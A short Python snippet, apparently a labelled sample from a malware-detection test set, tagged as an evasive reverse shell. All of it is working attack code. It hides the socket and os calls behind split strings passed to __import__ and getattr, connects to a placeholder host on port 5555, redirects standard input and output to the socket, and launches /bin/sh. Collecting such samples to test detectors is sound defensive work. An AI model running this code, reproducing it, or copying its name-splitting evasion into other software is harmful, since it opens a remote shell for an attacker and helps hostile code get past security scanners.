# family: reverse-shell
# evasive: modules and functions reached through __import__ and getattr with split names
so = __import__("soc" + "ket")
o = __import__("o" + "s")
s = getattr(so, "soc" + "ket")()
getattr(s, "con" + "nect")(("gt.example.invalid", 5555))
for n in (0, 1, 2):
    getattr(o, "du" + "p2")(s.fileno(), n)
getattr(o, "ex" + "ecl")("/bin/sh", "sh")
